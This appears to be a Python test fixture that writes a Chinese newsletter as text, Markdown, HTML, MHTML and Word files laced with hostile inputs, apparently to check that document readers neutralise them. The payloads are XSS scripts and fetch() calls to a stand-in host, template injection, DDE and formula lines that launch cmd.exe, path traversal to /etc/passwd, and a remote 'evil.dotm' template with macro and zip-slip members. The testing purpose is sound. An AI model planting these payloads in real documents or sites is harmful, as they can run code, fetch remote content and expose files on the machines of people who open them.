"""One bulletin as its worst sender would write it, in every kind of file that is read."""

import email.mime.multipart
import email.mime.text
import html
from pathlib import Path

from tests.readers.word_made import OFFICE, word_file

ELSEWHERE = "elsewhere.example"  # no output may lead there
SITE = "www.qingxi.example"  # the one address that stands in the text
HEAD = ("清溪中心", "简报", "2024年第3期", "2024年5月6日", "乡村生态交流活动举行")
TEXTS = (
    f"客人们<script src=https://{ELSEWHERE}/a.js></script>在树下喝茶。",
    f"今年雨水很多，<img src=x onerror=\"fetch('https://{ELSEWHERE}')\">大家都很高兴。",
    f'村民们点击<a href="javascript:alert(1)">这里</a>和<iframe src=//{ELSEWHERE}></iframe>捕鱼。',
    "会议{{ 7 * 191 }}{% include '/etc/hostname' %}在昆明市举行。",
    "=HYPERLINK(0)+cmd|' /C calc'!A0 是一个公式。",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe 不是命令。",
    f"详见 https://{SITE}/news 的报道。",
)
CONTACT = ("联系我们", "地址：云台市清溪路1号", f"网址：{SITE}", "邮箱：office@qingxi.example")
LINES = (*HEAD, *TEXTS, *CONTACT)


def plain(folder: Path) -> Path:
    path = folder / "hostile.txt"
    path.write_text("\n\n".join(LINES), encoding="utf-8")
    return path


def markdown(folder: Path) -> Path:
    path = folder / "marked.md"
    more = (
        f"![图](https://{ELSEWHERE}/p.png)",
        "[链接](javascript:alert(2)) 与 [另一个](file:///etc/passwd) 。",
        "![图](../../../../etc/passwd)",
    )
    path.write_text("# " + "\n\n".join((*LINES[4:12], *more, *LINES[12:])), encoding="utf-8")
    return path


def page(folder: Path) -> Path:
    path = folder / "page.html"
    paragraphs = "".join(f"<p>{html.escape(line)}</p>" for line in LINES)
    path.write_text(
        f'<!doctype html><html><head><meta charset="utf-8"><base href="https://{ELSEWHERE}/">'
        f'<link rel=stylesheet href="//{ELSEWHERE}/a.css"><script>document.write("x")</script>'
        f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'></head><body onload='alert(1)'><article>{paragraphs}"
        f'<p><img src="https://{ELSEWHERE}/p.png"><img src="../../etc/passwd"><a href="javascript:alert(3)">点击此处查看全文内容。</a></p>'
        f'<object data="https://{ELSEWHERE}/x.swf"></object><svg onload="alert(4)"><script>alert(5)</script></svg>'
        "</article></body></html>",
        encoding="utf-8",
    )
    return path


def archive(folder: Path) -> Path:
    path = folder / "archive.mhtml"
    parts = email.mime.multipart.MIMEMultipart("related")
    parts["Subject"], parts["MIME-Version"] = "page", "1.0"
    part = email.mime.text.MIMEText(page(folder).read_text(encoding="utf-8"), "html", "utf-8")
    part["Content-Location"] = f"https://{ELSEWHERE}/page.html"
    parts.attach(part)
    path.write_bytes(parts.as_bytes())
    return path


def word(folder: Path) -> Path:
    """Return a Word file with a template to fetch, a macro, a field that starts a program and a picture elsewhere."""
    body = "".join(f"<w:p><w:r><w:t>{html.escape(line)}</w:t></w:r></w:p>" for line in LINES)
    body += (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域的结果在这里。</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://elsewhere.example/p.png&quot;"><w:r><w:t>图片在此处显示。</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:hyperlink r:id="out"><w:r><w:t>请点击这个链接查看。</w:t></w:r></w:hyperlink></w:p>'
    )
    relations = "".join(
        f'<Relationship Id="{name}" Type="{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in (
            ("tpl", f"{OFFICE}/attachedTemplate", f"http://{ELSEWHERE}/evil.dotm"),
            ("pic", f"{OFFICE}/image", f"http://{ELSEWHERE}/p.png"),
            ("ole", f"{OFFICE}/oleObject", f"file://{ELSEWHERE}/share/x.doc"),
            ("out", f"{OFFICE}/hyperlink", f"http://{ELSEWHERE}/click"),
        )
    )
    relations += '<Relationship Id="vba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    members = {
        "word/vbaProject.bin": b"MACRO",
        "../../escaped.txt": b"x",
        "word/embeddings/oleObject1.bin": b"OLE",
    }
    return word_file(folder / "worded.docx", body, relations=relations, members=members)


FILES = (plain, markdown, page, archive, word)
